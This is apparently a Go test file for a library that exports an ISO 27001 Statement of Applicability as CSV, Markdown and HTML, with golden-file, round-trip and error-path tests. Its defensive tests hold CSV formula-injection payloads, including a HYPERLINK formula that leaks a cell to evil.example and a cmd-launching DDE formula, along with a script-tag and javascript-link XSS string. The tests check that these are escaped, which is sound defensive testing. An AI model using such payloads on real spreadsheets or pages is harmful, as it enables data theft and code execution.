package soa

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/ismskit/ismskit"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// richSoA is the fixture with the awkward values every format must
// survive: separators, line breaks, escapes, markup, extensions, a
// non-midnight date.
func richSoA(t testing.TB) SoA {
	s := testSoA(t)
	e := &s.Entries[0]
	e.Reasons = append(e.Reasons,
		Reason{Kind: Regulatory, Reference: `DORA Art. 9; "ICT risk", <b>bold</b>`, Note: "line one\nline two\\ with backslash"},
		Reason{Kind: RiskTreatment, Risks: []string{"R,1", "R;2"}},
	)
	e.Implementation = "Policy set | reviewed yearly\r\nby the board"
	e.Evidence = []string{"POL-01, v3", "https://example.com/a;b", "multi\nline"}
	e.Notes = []string{"note; with separators", `back\slash`}
	e.TargetDate = ismskit.NewDate(2027, 1, 15)
	e.Extensions = json.RawMessage(`{"grc":{"ticket":"SEC-1"}}`)
	e.Owner = "Ops & Security"
	s.Entries[1].Responsibility, s.Entries[1].Provider = Shared, "Example Cloud"
	return s
}

func TestCSVGoldenAndRoundTrip(t *testing.T) {
	s := richSoA(t)
	b, err := EncodeCSV(s)
	require.NoError(t, err)
	golden(t, "testdata/soa.golden.csv", b)
	lines := strings.Split(string(b), "\r\n")
	assert.True(t, strings.HasPrefix(lines[0], "Control,Title,Theme,Applicable,"), "header row")
	assert.True(t, strings.HasPrefix(lines[1], "5.1,"), "first column is the control ID")

	back, err := DecodeCSV(b)
	require.NoError(t, err)
	assert.Equal(t, s.Entries, back)

	// Any RFC 4180 reader gets the same cells.
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	require.NoError(t, err)
	require.Len(t, recs, 94)
	rows, err := s.Rows()
	require.NoError(t, err)
	assert.Equal(t, TableHeader(), recs[0])
	assert.Equal(t, rows[1], recs[2])
}

func TestCSVRejects(t *testing.T) {
	s := testSoA(t)
	s.Entries[3].Evidence = []string{"ok", ""}
	s.Entries[4].Status = 77
	_, err := EncodeCSV(s)
	require.Error(t, err)
	assert.ErrorIs(t, err, ismskit.ErrNotEncodable)
	assert.ErrorIs(t, err, ismskit.ErrUnknownValue)
	assert.Contains(t, err.Error(), "entries[3].evidence[1]")

	good, err := EncodeCSV(testSoA(t))
	require.NoError(t, err)
	head := strings.SplitN(string(good), "\r\n", 2)[0] + "\r\n"
	tests := []struct {
		name, in string
		kind     error
		path     string
	}{
		{"empty", "", ismskit.ErrSyntax, "header"},
		{"unknown column", strings.Replace(head, "Owner", "Owners", 1), ismskit.ErrSyntax, "header[7]"},
		{"short row", head + "5.1,t\r\n", ismskit.ErrSyntax, "rows[0]"},
		{"bad applicable", head + "5.1,t,,maybe,,,,,,,,,,,\r\n", ismskit.ErrUnknownValue, "rows[0].applicable"},
		{"bad status", head + "5.1,t,,yes,,,done,,,,,,,,\r\n", ismskit.ErrUnknownValue, "rows[0].status"},
		{"bad control", head + "5.99,t,,yes,,,,,,,,,,,\r\n", ismskit.ErrUnknownControl, "rows[0].control"},
		{"bad reason", head + "5.1,t,,yes,whim,,,,,,,,,,\r\n", ismskit.ErrUnknownValue, "rows[0].reasons[0]"},
		{"bad reason part", head + "5.1,t,,yes,legal; colour=red,,,,,,,,,,\r\n", ismskit.ErrSyntax, "rows[0].reasons[0]"},
		{"bad escape", head + "5.1,t,,yes,,,,,a\\q,,,,,,\r\n", ismskit.ErrSyntax, "rows[0].evidence[0]"},
		{"bad date", head + "5.1,t,,yes,,,,,,,31/12/2026,,,,\r\n", ismskit.ErrInvalidDate, "rows[0].targetDate"},
		{"bad extensions", head + "5.1,t,,yes,,,,,,,,,,,{\r\n", ismskit.ErrSyntax, "rows[0].extensions"},
		{"bad quoting", head + "5.1,\"t,,yes\r\n", ismskit.ErrSyntax, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := DecodeCSV([]byte(tt.in))
			require.Error(t, err)
			assert.ErrorIs(t, err, tt.kind)
			var fe *ismskit.Error
			require.ErrorAs(t, err, &fe)
			assert.Equal(t, tt.path, fe.Path)
		})
	}
}

func TestMarkdownGolden(t *testing.T) {
	s := richSoA(t)
	s.Entries[5].Applicability, s.Entries[5].Reasons, s.Entries[5].Status = Undecided, nil, 0
	md := Markdown(s)
	golden(t, "testdata/soa.golden.md", md)
	assert.Equal(t, string(md), string(Markdown(s)), "deterministic")
	text := string(md)
	assert.Contains(t, text, "**Example Ledger Ltd** · ISO/IEC 27001:2022 clause 6.1.3 d · Version 1.0 · 2026-11-28 · Classification: **Internal**")
	assert.Contains(t, text, "| Total | 93 | 80 | 12 | 1 |")
	assert.Contains(t, text, "## Physical controls\n\n14 controls, 2 applicable, 12 excluded.")
	assert.Contains(t, text, `Regulatory: DORA Art. 9; "ICT risk", &lt;b&gt;bold&lt;/b&gt; (line one<br>line two\\ with backslash)`)
	assert.Contains(t, text, `Policy set \| reviewed yearly<br>by the board`)
}

func TestHTMLGolden(t *testing.T) {
	s := richSoA(t)
	s.Entries[5].Applicability, s.Entries[5].Reasons, s.Entries[5].Status = Undecided, nil, 0
	h, err := HTML(s)
	require.NoError(t, err)
	golden(t, "testdata/soa.golden.html", h)
	text := string(h)
	assert.Contains(t, text, "&lt;b&gt;bold&lt;/b&gt;", "escaped")
	assert.NotContains(t, text, "<b>bold")
	assert.NotContains(t, text, "<script")
	assert.NotContains(t, text, "<link")
	assert.NotContains(t, text, "src=")
	assert.Contains(t, text, "@media print")
	assert.Contains(t, text, `<tr class="undecided">`)
	assert.Contains(t, text, `<tr class="excluded">`)
	assert.Equal(t, 12, strings.Count(text, `<tr class="excluded">`))
	assert.Equal(t, 4, strings.Count(text, `<tr class="section">`), "one section per theme")
}

func TestSummary(t *testing.T) {
	sum := testSoA(t).Summary()
	assert.Equal(t, 93, sum.Total.Entries)
	assert.Equal(t, 81, sum.Total.Included)
	assert.Equal(t, 12, sum.Total.Excluded)
	assert.Equal(t, 12, sum.Total.ByStatus(NotApplicable))
	assert.Equal(t, 12, sum.Total.NotApplicable)
	require.Len(t, sum.Themes, 4)
	assert.Equal(t, "physical", sum.Themes[2].Theme)
	assert.Equal(t, 14, sum.Themes[2].Entries)
	assert.Equal(t, 2, sum.Themes[2].Included)
	h, rows := sum.SummaryTable()
	assert.Equal(t, "Theme", h[0])
	assert.Equal(t, []string{"Total", "93", "81", "12", "0", "0", "1", "1", "79", "12", "0"}, rows[4])
}

// TestCSVFormulaInjection: no cell of the CSV begins with what a
// spreadsheet runs as a formula, and DecodeCSV still reads every value
// back, one that begins with an apostrophe included (OWASP CSV
// injection).
func TestCSVFormulaInjection(t *testing.T) {
	hostile := []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		"+1+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(A1:A9)",
		"\t=1",
		"\r=1",
		"'quoted by hand",
		"''two",
	}
	s := testSoA(t)
	for i, h := range hostile {
		e := &s.Entries[i]
		e.Implementation, e.Owner, e.Title = h, h, h
		e.Evidence = []string{h, "ok"}
		e.Notes = []string{h}
		if e.Applicability == Excluded {
			e.Justification = h
		}
	}
	b, err := EncodeCSV(s)
	require.NoError(t, err)
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	require.NoError(t, err)
	for i, r := range recs {
		for j, c := range r {
			if c != "" {
				assert.NotContains(t, "=+-@\t\r", c[:1], "row %d cell %d %q begins a formula", i, j, c)
			}
		}
	}
	assert.Equal(t, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, recs[1][colImplementation])
	assert.Equal(t, "''quoted by hand", recs[7][colOwner])

	back, err := DecodeCSV(b)
	require.NoError(t, err)
	assert.Equal(t, s.Entries, back, "read back without loss")

	// A cell that a person began with an apostrophe keeps it unless the
	// apostrophe defuses a formula (the rule of internal/table, shared
	// with risk's CSV).
	head := strings.SplitN(string(b), "\r\n", 2)[0] + "\r\n"
	got, err := DecodeCSV([]byte(head + "5.1,'Title,,undecided,,,,'=Owner,,,,,,,\r\n"))
	require.NoError(t, err)
	assert.Equal(t, "'Title", got[0].Title)
	assert.Equal(t, "=Owner", got[0].Owner)
}

// TestRenderersEscapeEveryText: text from the SoA never becomes markup in
// the Markdown, the HTML or the change log, whichever field it is in.
func TestRenderersEscapeEveryText(t *testing.T) {
	const x = `<script>alert(1)</script>[a](javascript:alert(2))`
	s := testSoA(t)
	h := &s.Header
	h.Organization, h.Scope, h.Version, h.PreparedBy, h.ApprovedBy, h.Catalog = x, x, x, x, x, x
	h.ApprovedAt = asOf
	s.Entries = s.Entries[:3]
	for i := range s.Entries {
		e := &s.Entries[i]
		e.Title, e.Theme, e.Owner, e.Implementation, e.Provider = x, x, x, x, x
		e.Evidence = []string{x}
		e.Responsibility = Shared
		e.Reasons = append(e.Reasons, Reason{Kind: Legal, Reference: x, Note: x})
	}
	older := testSoA(t)
	older.Header.Version = x
	older.Entries = older.Entries[:3]

	md := string(Markdown(s))
	html, err := HTML(s)
	require.NoError(t, err)
	log := string(Diff(older, s).Markdown())
	for name, out := range map[string]string{"markdown": md, "html": string(html), "changelog": log} {
		t.Run(name, func(t *testing.T) {
			assert.NotContains(t, out, "<script")
			if name != "html" {
				assert.NotRegexp(t, `[^\\]\]\(javascript`, out, "a Markdown link")
			}
			assert.Contains(t, out, "&lt;script&gt;")
		})
	}
	assert.Contains(t, md, `**&lt;script&gt;alert(1)&lt;/script&gt;\[a\](javascript:alert(2))** · ISO/IEC 27001:2022 clause 6.1.3 d`)
	assert.Contains(t, md, `## &lt;script&gt;alert(1)&lt;/script&gt;\[a\](javascript:alert(2))`, "the theme as a heading")
	assert.Contains(t, log, `# SoA changes from version &lt;script&gt;alert(1)&lt;/script&gt;\[a\](javascript:alert(2)) to`)
}
